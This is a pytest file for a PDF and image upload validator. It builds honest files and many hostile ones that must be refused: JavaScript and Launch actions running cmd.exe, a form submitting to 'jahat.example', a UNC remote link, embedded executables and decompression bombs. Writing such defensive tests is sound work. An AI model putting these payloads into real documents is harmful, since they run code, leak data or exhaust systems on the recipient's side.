"""What is received and what is not: honest files of many makers, and hostile ones with each thing that a PDF can hide."""

from __future__ import annotations

import contextlib
import io
import subprocess
import time
import zipfile
import zlib

import pytest
from alat_pdf import HALAMAN, aliran, berhalaman, jujur, padat, pindaian, susun, teks
from chalicelib.documents.pemeriksaan import periksa, periksa_gambar
from chalicelib.documents.pindai import jadikan_pdf
from chalicelib.galat import TakSah
from PIL import Image
from pypdf import PdfReader, PdfWriter

BATAS = 50
DETIK = 20
"""No file may keep a counter busy for longer; the slowest machine that runs these tests takes a tenth of it."""


def tulis(penulis: PdfWriter) -> bytes:
    wadah = io.BytesIO()
    penulis.write(wadah)
    return wadah.getvalue()


def lewat_pypdf(isi: bytes, **sandi: str) -> bytes:
    penulis = PdfWriter(clone_from=io.BytesIO(isi))
    if sandi:
        penulis.encrypt(**sandi)
    return tulis(penulis)


def fpdf(**pilihan: object) -> bytes:
    return bytes(teks(**pilihan).output())


def fpdf_sandi(pemilik: str, pengguna: str) -> bytes:
    from fpdf.enums import EncryptionMethod

    pdf = teks()
    pdf.set_encryption(owner_password=pemilik, user_password=pengguna, encryption_method=EncryptionMethod.RC4)
    return bytes(pdf.output())


def tambahan(isi: bytes, nomor: int, badan: str, akar: str = "") -> bytes:
    """An incremental update: one more object (or one anew) behind the end, as signing programs write."""
    lama = isi.rindex(b"startxref")
    mulai = int(isi[lama:].split()[1])
    baru = isi + f"{nomor} 0 obj\n{badan}\nendobj\n".encode()
    xref = len(baru)
    letak = len(isi)
    return (
        baru
        + f"xref\n{nomor} 1\n{letak:010d} 00000 n \ntrailer\n<< /Size 40 /Root 1 0 R /Prev {mulai} {akar} >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )


def objstm(isi: dict[int, str]) -> bytes:
    """A file whose root and pages lie in a compressed object stream, found by a cross-reference stream (PDF 1.5)."""
    kepala, badan = "", ""
    for nomor, teks_benda in isi.items():
        kepala += f"{nomor} {len(badan)} "
        badan += teks_benda + " "
    dalam = padat((kepala + badan).encode(), f"/Type /ObjStm /N {len(isi)} /First {len(kepala)}")
    berkas = bytearray(b"%PDF-1.5\n")
    letak = len(berkas)
    berkas += b"20 0 obj\n" + dalam + b"\nendobj\n"
    xref = len(berkas)
    baris = bytearray()
    for nomor in range(22):
        if nomor in isi:
            baris += bytes([2]) + (20).to_bytes(4) + bytes([list(isi).index(nomor)])
        elif nomor == 20:
            baris += bytes([1]) + letak.to_bytes(4) + b"\0"
        elif nomor == 21:
            baris += bytes([1]) + xref.to_bytes(4) + b"\0"
        else:
            baris += bytes([0]) + bytes(4) + b"\0"
    berkas += b"21 0 obj\n" + padat(bytes(baris), "/Type /XRef /Size 22 /W [1 4 1] /Root 1 0 R") + b"\nendobj\n"
    return bytes(berkas) + f"startxref\n{xref}\n%%EOF\n".encode()


AKAR_PADAT = {
    1: "<< /Type /Catalog /Pages 2 0 R >>",
    2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}
TANDA = "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 1 2 3] /Contents <00> >>"
MEDAN_TANDA = "/AcroForm << /SigFlags 3 /Fields [5 0 R] >>"
MEDAN = {5: "<< /FT /Sig /T (ttd) /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R /V 6 0 R >>", 6: TANDA}


def gambar_di_pdf(mode: str, **lain: object) -> bytes:
    wadah = io.BytesIO()
    Image.new(mode, (400, 600), 1).save(wadah, "PDF", **lain)
    return wadah.getvalue()


BAIK = {
    "satu-halaman": jujur(),
    "pdf-1.3": jujur(versi="1.3"),
    "pdf-1.4": jujur(versi="1.4"),
    "pdf-2.0": jujur(versi="2.0"),
    "teks-kantor": fpdf(),
    "teks-a3": fpdf(format="A3"),
    "teks-legal": fpdf(format="legal"),
    "teks-mendatar": fpdf(orientation="L"),
    "lewat-penulis-lain": lewat_pypdf(fpdf()),
    "pindaian": pindaian(),
    "pindaian-5": pindaian(5),
    "pindaian-200-dpi": pindaian(resolution=200),
    "pindaian-abu": gambar_di_pdf("L"),
    "pindaian-hitam-putih": gambar_di_pdf("1"),
    "pindaian-cmyk": gambar_di_pdf("CMYK"),
    "pindaian-palet": gambar_di_pdf("P"),
    "halaman-50": berhalaman(BATAS),
    "halaman-2": berhalaman(2),
    "halaman-kecil": berhalaman(1, "[0 0 10 10]"),
    "halaman-besar": berhalaman(1, "[0 0 14400 14400]"),
    "halaman-negatif": berhalaman(1, "[-100 -100 495 742]"),
    "medan-tanda-tangan-kosong": jujur(MEDAN_TANDA, lagi={5: "<< /FT /Sig /T (ttd) /Subtype /Widget /Rect [0 0 0 0] >>"}),
    "bertanda-tangan": jujur(MEDAN_TANDA, lagi=MEDAN),
    "tanda-tangan-ditambahkan": tambahan(jujur(), 5, TANDA),
    "tautan": jujur(halaman="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://bkn.go.id) >> >>]"),
    "tujuan-di-dalam": jujur("/OpenAction [3 0 R /Fit]"),
    "aksi-goto": jujur("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "daftar-isi": jujur("/Outlines << /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>", lagi={5: "<< /Title (Bab) /Parent 1 0 R /Dest [3 0 R /Fit] >>"}),
    "metadata": jujur("/Metadata 5 0 R", lagi={5: aliran(b"<x:xmpmeta/>", "/Type /Metadata /Subtype /XML")}),
    "info": jujur(trailer="/Info << /Title (SK) /Producer (pemindai) >>"),
    "catatan-teks": jujur(halaman="/Annots [<< /Subtype /Text /Rect [0 0 9 9] /Contents (periksa) >>]"),
    "stempel": jujur(halaman="/Annots [<< /Subtype /Stamp /Rect [0 0 9 9] >>]"),
    "sorotan": jujur(halaman="/Annots [<< /Subtype /Highlight /Rect [0 0 9 9] /QuadPoints [0 0 1 1 2 2 3 3] >>]"),
    "formulir-biasa": jujur("/AcroForm << /Fields [5 0 R] >>", lagi={5: "<< /FT /Tx /T (nama) /V (x) /Subtype /Widget /Rect [0 0 9 9] >>"}),
    "lapisan": jujur("/OCProperties << /OCGs [5 0 R] /D << >> >>", lagi={5: "<< /Type /OCG /Name (lapis) >>"}),
    "sampah-sesudah-akhir": jujur() + b"\n\n\0\0",
    "dua-akhir": tambahan(jujur(), 7, "<< >>"),
    "aliran-benda": objstm(AKAR_PADAT),
    "putar": jujur(halaman="/Rotate 90"),
    "isi-terkompres": susun({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: HALAMAN.format(halaman=""), 4: padat(b"0 0 m 9 9 l S " * 500)}),
    "pohon-dalam": susun({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [5 0 R] /Count 1 >>", 5: "<< /Type /Pages /Parent 2 0 R /Kids [3 0 R] /Count 1 >>", 3: "<< /Type /Page /Parent 5 0 R /MediaBox [0 0 595 842] >>"}),
    "kata-javascript-di-isi": susun({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: HALAMAN.format(halaman=""), 4: aliran(b"BT (/JavaScript /JS /Launch) Tj ET")}),
    "judul-launch": jujur(trailer="/Info << /Title (/Launch /EmbeddedFile) >>"),
    "bahasa": jujur("/Lang (id-ID) /MarkInfo << /Marked true >>"),
    "label-halaman": jujur("/PageLabels << /Nums [0 << /S /D >>] >>"),
}  # fmt: skip


def annot(isi: str) -> bytes:
    return jujur(halaman=f"/Annots [<< /Type /Annot /Rect [0 0 9 9] {isi} >>]")


def bom(kali: int) -> bytes:
    """A stream that swells; 0 bytes compress a thousandfold."""
    return zlib.compress(bytes(kali), 9)


def zip_pdf(nama: str = "a.exe", isi: str = "MZ") -> bytes:
    wadah = io.BytesIO()
    with zipfile.ZipFile(wadah, "w") as z:
        z.writestr(nama, isi * 100)
    return wadah.getvalue()


def bom_objstm() -> bytes:
    """The objects themselves lie in a stream of 300 MB."""
    isi = objstm(AKAR_PADAT)
    baik = isi[isi.index(b"20 0 obj") : isi.index(b"endobj") + 6]
    jahat = b"20 0 obj\n" + aliran(bom(300_000_000), "/Filter /FlateDecode /Type /ObjStm /N 3 /First 12") + b"\nendobj"
    geser = len(jahat) - len(baik)
    isi = isi.replace(baik, jahat)
    xref = isi.index(b"21 0 obj")
    baris = bytearray()
    for nomor in range(22):
        if nomor in (1, 2, 3):
            baris += bytes([2]) + (20).to_bytes(4) + bytes([nomor - 1])
        elif nomor in (20, 21):
            baris += bytes([1]) + (9 if nomor == 20 else xref).to_bytes(4) + b"\0"
        else:
            baris += bytes(6)
    assert geser
    return (
        isi[:xref]
        + b"21 0 obj\n"
        + padat(bytes(baris), "/Type /XRef /Size 22 /W [1 4 1] /Root 1 0 R")
        + f"\nendobj\nstartxref\n{xref}\n%%EOF\n".encode()
    )


def bom_xref() -> bytes:
    xref = len(b"%PDF-1.5\n")
    return (
        b"%PDF-1.5\n21 0 obj\n"
        + aliran(bom(300_000_000), "/Filter /FlateDecode /Type /XRef /Size 50000000 /W [1 4 1] /Root 1 0 R")
        + f"\nendobj\nstartxref\n{xref}\n%%EOF\n".encode()
    )


JAHAT = {
    "kosong": (b"", "kosong"),
    "teks": (b"bukan pdf", "bukan-pdf"),
    "html": (b"<html><script>alert(1)</script></html>", "bukan-pdf"),
    "exe": (b"MZ\x90\x00" + bytes(500), "bukan-pdf"),
    "zip": (zip_pdf(), "zip"),
    "rar": (b"Rar!\x1a\x07\x01\x00" + bytes(500), "zip"),
    "word": (zip_pdf("[Content_Types].xml"), "kantor"),
    "libreoffice": (zip_pdf("mimetype", "application/vnd.oasis.opendocument.text"), "kantor"),
    "word-lama": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "kantor"),
    "heic": (b"\0\0\0\x18ftypheic" + bytes(500), "heic"),
    "tiff": (b"II*\0" + bytes(500), "gambar"),
    "jpeg": (b"\xff\xd8\xff\xe0" + bytes(500), "gambar"),
    "png": (b"\x89PNG\r\n\x1a\n" + bytes(500), "gambar"),
    "webp": (b"RIFF\x00\x00\x00\x00WEBP" + bytes(500), "gambar"),
    "didahului-html": (b"<html><!--" + jujur(), "tersembunyi"),
    "didahului-zip": (zip_pdf() + jujur(), "tersembunyi"),
    "didahului-jpeg": (b"\xff\xd8\xff\xfe\x00\x10" + jujur(), "gambar"),
    "didahului-spasi": (b" " + jujur(), "tersembunyi"),
    "terpotong-tengah": (jujur()[:200], "terpotong"),
    "terpotong-akhir": (jujur()[:-20], "terpotong"),
    "hanya-kepala": (b"%PDF-1.7\n%%EOF", "rusak"),
    "acak": (b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"%%EOF", "rusak"),
    "tanpa-akar": (susun({2: "<< /Type /Pages /Kids [] /Count 0 >>"}), "rusak"),
    "akar-bukan-kamus": (susun({1: "[1 2 3]"}), "rusak"),
    "akar-angka": (susun({1: "42"}), "rusak"),
    "tanpa-pohon": (susun({1: "<< /Type /Catalog >>"}), "rusak"),
    "pohon-angka": (susun({1: "<< /Type /Catalog /Pages 7 >>"}), "tanpa-halaman"),
    "pohon-null": (susun({1: "<< /Type /Catalog /Pages 9 0 R >>"}), "tanpa-halaman"),
    "tanpa-halaman": (susun({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [] /Count 0 >>"}), "tanpa-halaman"),
    "hitungan-bohong": (susun({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [] /Count 5 >>"}), "tanpa-halaman"),
    "anak-bukan-daftar": (susun({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids 5 /Count 1 >>"}), "rusak"),
    "pohon-melingkar": (susun({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}), "rusak"),
    "halaman-51": (berhalaman(BATAS + 1), "terlalu-tebal"),
    "halaman-2000": (berhalaman(2_000), "terlalu-tebal"),
    "benda-70000": (jujur("/X [" + "<< >> " * 70_000 + "]"), "terlalu-rumit"),
    "sarang-dalam": (jujur("/X " + "[" * 5_000 + "]" * 5_000), "rusak"),
    "sandi-pengguna": (lewat_pypdf(fpdf(), user_password="x", algorithm="RC4-128"), "terkunci"),
    "sandi-pemilik": (lewat_pypdf(fpdf(), user_password="", owner_password="x", algorithm="RC4-40"), "terkunci"),
    "sandi-fpdf": (fpdf_sandi("a", "b"), "terkunci"),
    "sandi-fpdf-kosong": (fpdf_sandi("a", ""), "terkunci"),
    "sandi-tak-dikenal": (jujur(trailer="/Encrypt << /Filter /Asing /V 9 >> /ID [<00> <00>]"), "terkunci"),
    "js-openaction": (jujur("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "berskrip"),
    "js-names": (jujur("/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", lagi={5: "<< /S /JavaScript /JS (x) >>"}), "berskrip"),
    "js-aa-halaman": (jujur(halaman="/AA << /O << /S /JavaScript /JS (x) >> >>"), "berskrip"),
    "js-nama-samaran": (jujur("/OpenAction << /S /J#61vaScript /J#53 (x) >>"), "berskrip"),
    "js-kunci-ganda": (jujur("/OpenAction [3 0 R /Fit] /OpenAction << /S /JavaScript /JS (x) >>"), "bermakna-ganda"),
    "js-kunci-ganda-padat": (objstm(AKAR_PADAT | {1: "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R] /OpenAction << /S /JavaScript /JS (x) >> >>"}), "bermakna-ganda"),
    "js-rujukan": (jujur("/OpenAction 5 0 R", lagi={5: "<< /S 6 0 R /X 1 >>", 6: "/JavaScript"}), "berskrip"),
    "js-aliran": (jujur("/OpenAction << /S /JavaScript /JS 5 0 R >>", lagi={5: padat(b"app.alert(1)")}), "berskrip"),
    "js-berantai": (jujur("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /JavaScript /JS (x) >>] >>"), "berskrip"),
    "js-tambahan": (tambahan(jujur(), 1, "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>"), "berskrip"),
    "js-aliran-benda": (objstm(AKAR_PADAT | {1: "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>"}), "berskrip"),
    "launch": (jujur("/OpenAction << /S /Launch /F (cmd.exe) >>"), "menjalankan"),
    "launch-rujukan": (jujur("/OpenAction << /S 5 0 R /F (cmd.exe) >>", lagi={5: "/Launch"}), "menjalankan"),
    "launch-kunci-ganda": (jujur("/OpenAction << /S /URI /S /Launch /F (cmd.exe) >>"), "bermakna-ganda"),
    "launch-kunci-ganda-balik": (jujur("/OpenAction << /S /Launch /S /URI /F (cmd.exe) >>"), "menjalankan"),
    "launch-tautan": (annot("/Subtype /Link /A << /S /Launch /F (cmd.exe) >>"), "menjalankan"),
    "launch-tautan-pa": (annot("/Subtype /Link /PA << /S /Launch /F (cmd.exe) >>"), "menjalankan"),
    "launch-daftar-isi": (jujur("/Outlines << /First 5 0 R /Count 1 >>", lagi={5: "<< /Title (x) /A << /S /Launch /F (x) >> >>"}), "menjalankan"),
    "goto-luar": (annot("/Subtype /Link /A << /S /GoToR /F (\\\\\\\\jahat\\\\x.pdf) /D [0 /Fit] >>"), "menjalankan"),
    "goto-lampiran": (annot("/Subtype /Link /A << /S /GoToE /D (x) /T << /R /C >> >>"), "menjalankan"),
    "kirim-formulir": (jujur("/AcroForm << /Fields [5 0 R] >>", lagi={5: "<< /FT /Btn /T (k) /A << /S /SubmitForm /F (http://jahat.example) >> >>"}), "mengirim"),
    "impor-data": (annot("/Subtype /Link /A << /S /ImportData /F (x.fdf) >>"), "mengirim"),
    "lampiran": (jujur("/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", lagi={5: "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", 6: aliran(b"MZ", "/Type /EmbeddedFile")}), "berlampiran"),
    "lampiran-anotasi": (annot("/Subtype /FileAttachment /FS << /F (a.exe) >>"), "berlampiran"),
    "lampiran-anotasi-rujukan": (jujur(halaman="/Annots [<< /Subtype 5 0 R /Rect [0 0 9 9] >>]", lagi={5: "/FileAttachment"}), "berlampiran"),
    "lampiran-af": (jujur("/AF [5 0 R]", lagi={5: "<< /Type /Filespec /F (a.xml) /EF << /F 6 0 R >> >>", 6: aliran(b"x", "/Type /EmbeddedFile")}), "berlampiran"),
    "portofolio": (jujur("/Collection << /View /T >>"), "berlampiran"),
    "xfa": (jujur("/AcroForm << /XFA 5 0 R /Fields [] >>", lagi={5: aliran(b"<xdp/>")}), "formulir-xfa"),
    "media-kaya": (annot("/Subtype /RichMedia /RichMediaContent << >>"), "media"),
    "video": (annot("/Subtype /Screen /A << /S /Rendition >>"), "media"),
    "tiga-dimensi": (annot("/Subtype /3D"), "media"),
    "suara": (annot("/Subtype /Sound /Sound 4 0 R"), "media"),
    "bom-benda": (bom_objstm(), "rusak"),
    "bom-xref": (bom_xref(), "rusak"),
    "xref-melingkar": (jujur(trailer="/Prev 0").replace(b"/Prev 0", b"/Prev 9"), None),
    "panjang-bohong": (jujur().replace(b"/Length 17", b"/Length 9999999"), None),
    "rujukan-diri": (jujur("/X 5 0 R", lagi={5: "5 0 R"}), None),
}  # fmt: skip


@pytest.mark.parametrize("nama", BAIK)
def test_an_honest_file_is_received(nama):
    hasil = periksa(BAIK[nama], batas_halaman=BATAS)
    assert hasil.tipe == "application/pdf"
    assert hasil.halaman == len(PdfReader(io.BytesIO(BAIK[nama])).pages)
    assert hasil.bertanda_tangan is ("tanda-tangan" in nama and "kosong" not in nama and "ditambahkan" not in nama)


@pytest.mark.parametrize("nama", JAHAT)
def test_a_hostile_file_is_refused_with_a_reason(nama):
    """`None`: what is broken but harmless may pass; it must only never break us."""
    isi, kode = JAHAT[nama]
    mulai = time.process_time()
    if kode is None:
        try:
            assert periksa(isi, batas_halaman=BATAS).halaman == 1
        except TakSah as tolak:
            assert tolak.petunjuk
    else:
        with pytest.raises(TakSah) as tolak_:
            periksa(isi, batas_halaman=BATAS)
        assert tolak_.value.kode == f"berkas-{kode}"
        assert tolak_.value.petunjuk
    assert time.process_time() - mulai < DETIK


def test_there_are_enough_of_them():
    assert len(BAIK) >= 40 and len(JAHAT) >= 40


def test_any_damage_to_an_honest_file_is_a_refusal_or_a_reading():
    """A byte changed anywhere never breaks the check itself."""
    for asli in (BAIK["bertanda-tangan"], BAIK["aliran-benda"], BAIK["teks-kantor"][:3_000] + b"%%EOF"):
        for letak in range(8, len(asli), max(1, len(asli) // 150)):
            for ganti in (0, 0xFF, asli[letak] ^ 0x20):
                rusak = bytearray(asli)
                rusak[letak] = ganti
                with contextlib.suppress(TakSah):
                    periksa(bytes(rusak), batas_halaman=BATAS)


def foto(bentuk: str, ukuran: tuple[int, int] = (300, 400)) -> bytes:
    wadah = io.BytesIO()
    Image.new("RGB", ukuran, "white").save(wadah, bentuk)
    return wadah.getvalue()


@pytest.mark.parametrize(
    "bentuk, tipe", [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp"), ("TIFF", "image/tiff")]
)
def test_a_photo_is_received(bentuk, tipe):
    assert periksa_gambar(foto(bentuk)) == (tipe, 1, False)


def bom_png() -> bytes:
    """Claims 60,000 x 60,000 pixels in a few hundred bytes."""
    asli = bytearray(foto("PNG"))
    asli[16:24] = (60_000).to_bytes(4) * 2
    asli[29:33] = zlib.crc32(asli[12:29]).to_bytes(4)
    return bytes(asli)


@pytest.mark.parametrize(
    "isi, kode",
    [
        (b"", "bukan-gambar"),
        (jujur(), "bukan-gambar"),
        (b"GIF89a" + bytes(50), "bukan-gambar"),
        (b"<svg onload=alert(1)>", "bukan-gambar"),
        (foto("JPEG")[:200], "gambar-rusak"),
        (foto("PNG")[:100], "gambar-rusak"),
        (b"\xff\xd8\xff" + bytes(1000), "gambar-rusak"),
        (bom_png(), "gambar-besar"),
        (b"II*\0\x08\0\0\0" + bytes(200), "tiff"),
        (foto("TIFF")[:-9_000], "tiff"),
        (foto("PNG", (9_000, 9_000)), "gambar-besar"),
    ],
    ids=lambda x: x if isinstance(x, str) else "",
)
def test_a_hostile_photo_is_refused(isi, kode):
    with pytest.raises(TakSah) as tolak:
        jadikan_pdf(isi, 1_000_000)
    assert tolak.value.kode == f"berkas-{kode}"


@pytest.mark.parametrize(
    "isi, kata",
    [
        (b"%PDF-1.7\n%%EOF", "dibuka di komputer: buka, pilih Cetak, lalu Simpan sebagai PDF."),
        (b"%PDF-1.7\n/ByteRange %%EOF", "Bila tidak ada: bila masih dapat dibuka di komputer: buka, pilih Cetak,"),
    ],
)
def test_advice_names_buttons_as_they_stand_on_the_screen(isi, kata):
    with pytest.raises(TakSah) as tolak:
        periksa(isi, batas_halaman=BATAS)
    assert tolak.value.kode == "berkas-rusak" and kata in tolak.value.petunjuk
    assert tolak.value.__cause__ is not tolak.value


CETAK = [n for n, (_, kode) in JAHAT.items() if kode in (
    "tersembunyi", "bermakna-ganda", "berskrip", "menjalankan", "mengirim", "berlampiran", "formulir-xfa", "media", "terlalu-rumit", "terlalu-tebal",
)] + ["sandi-pengguna", "sandi-pemilik"]  # fmt: skip


def test_who_follows_the_advice_to_print_is_received(tmp_path):
    """ "Buka, pilih Cetak, lalu Simpan sebagai PDF": with a real printer to PDF, once for each kind of refusal and for every file of it."""
    for nama in CETAK:
        with pytest.raises(TakSah) as tolak:
            periksa(JAHAT[nama][0], batas_halaman=BATAS)
        assert "cetak" in tolak.value.petunjuk.lower() and "Simpan sebagai PDF" in tolak.value.petunjuk
        asal, cetakan = tmp_path / "asal.pdf", tmp_path / "cetakan.pdf"
        asal.write_bytes(JAHAT[nama][0])
        sandi = ["-upw", "x"] if nama == "sandi-pengguna" else []
        subprocess.run(["pdftocairo", "-pdf", "-l", str(BATAS), *sandi, asal, cetakan], check=True, capture_output=True)
        assert periksa(cetakan.read_bytes(), batas_halaman=BATAS).halaman >= 1, nama


def test_nobody_is_advised_to_print_a_signature_away_without_a_warning():
    tertanda = jujur("/OpenAction << /S /JavaScript /JS (x) >> " + MEDAN_TANDA, lagi=MEDAN)
    with pytest.raises(TakSah) as tolak:
        periksa(tertanda, batas_halaman=BATAS)
    assert tolak.value.kode == "berkas-berskrip"
    assert "penerbitnya" in tolak.value.petunjuk and "tidak lagi bertanda tangan" in tolak.value.petunjuk
